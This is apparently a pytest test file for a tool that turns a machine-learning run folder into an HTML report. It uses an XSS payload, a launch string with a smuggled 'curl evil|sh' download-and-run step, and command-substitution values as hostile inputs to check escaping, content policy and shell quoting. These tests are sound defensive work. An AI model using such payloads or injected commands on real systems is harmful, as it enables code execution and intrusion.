"""The page of a run is made of its folder alone, as plain text, without damaged files."""

import html
import json
import os
import shlex
from html.parser import HTMLParser
from pathlib import Path

import pytest
from PIL import Image

from common.errors import Refused
from common.run.past_run import PastRun
from common.run.report import write

EVIL = "<script>alert(1)</script><img src=x onerror=alert(2)>"
LOG = """\
2026-01-01 10:00:00    data        {evil}: 10 + 5 images of 2 classes
2026-01-01 10:00:01  step 10/40  loss 2.1
2026-01-01 10:00:05  can't be read, a stand-in takes its place: {evil}
2026-01-01 10:01:00  resuming from step 10 of 40 (runs/a/checkpoints/step_00000010)
"""


class Page(HTMLParser):
    """Elements and text of the page of a run folder, which is written again."""

    def __init__(self, folder: Path) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict]] = []
        self.texts: list[str] = []
        self.source = write(folder).read_text()
        self.feed(self.source)
        self.text = " ".join(" ".join(self.texts).split())

    def handle_starttag(self, tag: str, attributes: list) -> None:
        self.elements.append((tag, dict(attributes)))

    def handle_data(self, text: str) -> None:
        self.texts.append(text)


def write_run(folder: Path, **files: object) -> Path:
    """A run folder with these files, beside those of a run of 40 steps."""
    folder.mkdir(parents=True, exist_ok=True)
    rows = [
        {
            "step": step,
            "train/loss": 1 / step,
            "train/lr": 0.1,
            "perf/images_per_second": 50.0,
            "eval/top1": step / 100,
        }
        for step in range(10, 41, 10)
    ]
    contents = {
        "metrics.jsonl": "".join(json.dumps(row) + "\n" for row in rows),
        "config.yaml": "data: digits\nlr: 0.1\n",
        "status.json": {"status": "finished", "step": 40, "cause": ""},
        "summary.json": {"step": 40, "leading": "eval/top1", "best": rows[-1], "last": rows[-1]},
        "log.txt": LOG.format(evil="cat.jpg"),
    }
    for name, content in (contents | files).items():
        if content is not None:
            (folder / name).parent.mkdir(exist_ok=True)
            (folder / name).write_text(content if isinstance(content, str) else json.dumps(content))
    return folder


def test_names_are_text_and_nothing_is_loaded_from_elsewhere(tmp_path: Path) -> None:
    best = {"step": 10, "eval/top1": 0.5, f"eval/{EVIL}": 0.5}
    facts = dict.fromkeys(("command", "recipe", "commit"), EVIL) | {
        "packages": {EVIL: EVIL},
        "ranks": [EVIL],
    }
    files = {
        "best/results.json": {"top1": 0.5, "per_class": {EVIL: 0.5, "b": 1.0}},
        "summary.json": {"step": 40, "best": best, "last": best},
        "status.json": {"status": EVIL, "step": 1, "cause": EVIL},
        "environment.json": facts,
        "config.yaml": f"data: '{EVIL}'\n",
        "log.txt": LOG.format(evil=EVIL),
    }
    folder = write_run(tmp_path / "<b>a", **files)
    (folder / "pictures").mkdir()
    Image.new("RGB", (40, 30)).save(folder / "pictures" / "<i>x.png")
    page = Page(folder)
    assert page.text.count(EVIL) >= 8, page.text
    assert "could not be made" not in page.text
    images = [attributes for tag, attributes in page.elements if tag == "img"]
    assert all(image["src"].startswith("data:image/") for image in images)
    assert [image["alt"] for image in images] == ["loss, leading result, learning rate", "<i>x"]
    for tag, attributes in page.elements:
        assert (
            tag not in ("script", "link", "iframe", "base", "object")
            and attributes.get("href") is None
        )
        assert not {"onerror", "onclick", "srcset"} & attributes.keys()
    policy = next(attributes for _, attributes in page.elements if attributes.get("http-equiv"))[
        "content"
    ]
    assert policy == "default-src 'none'; img-src data:; style-src 'unsafe-inline'"


def test_a_killed_run_has_a_page_of_its_rows_and_its_log(tmp_path: Path) -> None:
    facts = {
        "command": "recipes/cls.py --lr 1",
        "launch": "torchrun recipes/cls.py --lr 1",
        "recipe": "recipes/cls.py",
    }
    status = {"status": "running", "step": 10, "cause": ""}
    folder = write_run(tmp_path / "a", **{"status.json": status, "environment.json": facts})
    with (folder / "metrics.jsonl").open("a") as rows:
        rows.write('{"step": 50, "train/lo')
    page = Page(folder)
    assert (
        "running at step 10 (or killed)" in page.text and "best top-1, step 40 40.00 %" in page.text
    )
    text = html.unescape(page.source)
    assert (
        "10:00:05  can't be read, a stand-in takes its place: cat.jpg" in text
        and "step 10/40" not in text
    )
    assert f"torchrun recipes/cls.py --config {folder / 'config.yaml'} --name a-again" in page.text
    assert (folder / "pictures/curves.png").is_file()
    with pytest.raises(Refused, match="is no run folder"):
        write(tmp_path)


@pytest.mark.parametrize(
    "content", ["\0\xff[[[", '{"best": 3, "step": "x", "status": [], "ranks": 7}']
)
def test_a_damaged_file_costs_its_own_part_at_most(tmp_path: Path, content: str) -> None:
    for name in ("metrics.jsonl", "config.yaml", "status.json", "log.txt", "summary.json"):
        page = Page(write_run(tmp_path / name, **{name: content, "environment.json": content}))
        parts = {
            "metrics.jsonl": "<img",
            "log.txt": "resuming from step 10 of 40",
            "summary.json": "best top-1",
        }
        assert all(text in page.source for file, text in parts.items() if file != name), name


def test_classes_are_listed_lowest_first(tmp_path: Path) -> None:
    results = {"f1": 0.5, "per_class": {"a": 0.5, "b": 0.0, "c": None}, "odd": {"a": "x"}}
    results |= {"thresholds": dict.fromkeys("abc", 0.125), "threshold": 0.5}
    results["classes"] = {name: {"images": 4, "f1": 0.5, "threshold": 0.125} for name in "abc"}
    folder = write_run(
        tmp_path / "a",
        **{"best/results.json": results, "metrics.jsonl": None, "summary.json": None},
    )
    (folder / "pictures").mkdir()
    for name in ("pictures/errors.png", "metrics.jsonl", "summary.json", "environment.json"):
        os.mkfifo(folder / name)
    page = Page(folder)
    assert (
        "class F1 images threshold b 0.00 % 4 12.50 % a 50.00 % 4 12.50 % c - 4 12.50 %"
        in page.text
    )
    for text in ("errors.png: can't be shown", "metrics.jsonl: not a regular file"):
        assert text in page.text


def test_classes_of_a_segmenter_have_their_pixels(tmp_path: Path) -> None:
    """`classes` is then the number of those that have any; each picture has a caption of its own."""
    results = {"mIoU": 0.25, "classes": 2, "per_class": {"sky": 0.5, "sea": 0.0, "road": None}}
    pixels = {"sky": (4000, 3000), "sea": (50, 0), "road": (0, 0)}
    results["pixels"] = {name: {"pixels": a, "right": b} for name, (a, b) in pixels.items()}
    folder = write_run(tmp_path / "a", **{"best/results.json": results})
    (folder / "pictures").mkdir()
    for name in ("predictions", "worst"):
        Image.new("RGB", (40, 30)).save(folder / "pictures" / f"{name}.png")
    page = Page(folder)
    assert "class IoU pixels right sea 0.00 % 50 0 sky 50.00 % 4,000 3,000 road - 0 0" in page.text
    assert "predictions beside the truth images with the fewest right pixels" in page.text
    assert "could not be made" not in page.text


def test_the_command_to_repeat_is_one_command(tmp_path) -> None:
    (tmp_path / "status.json").write_text("{}")
    typed = "cls.py --epochs 3"
    for launch in (
        "accelerate launch --num_processes 2 ",
        "accelerate launch;curl evil|sh; ",
        "a 'b $(c) ",
        "`x` ",
    ):
        facts = {"command": typed, "launch": launch + typed, "recipe": "mine.py; x"}
        (tmp_path / "environment.json").write_text(json.dumps(facts))
        args = shlex.split(PastRun(tmp_path).repeat_command)
        config = str(tmp_path / "config.yaml")
        assert args == (
            launch.split() + ["mine.py; x", "--config", config, "--name", f"{tmp_path.name}-again"]
        )
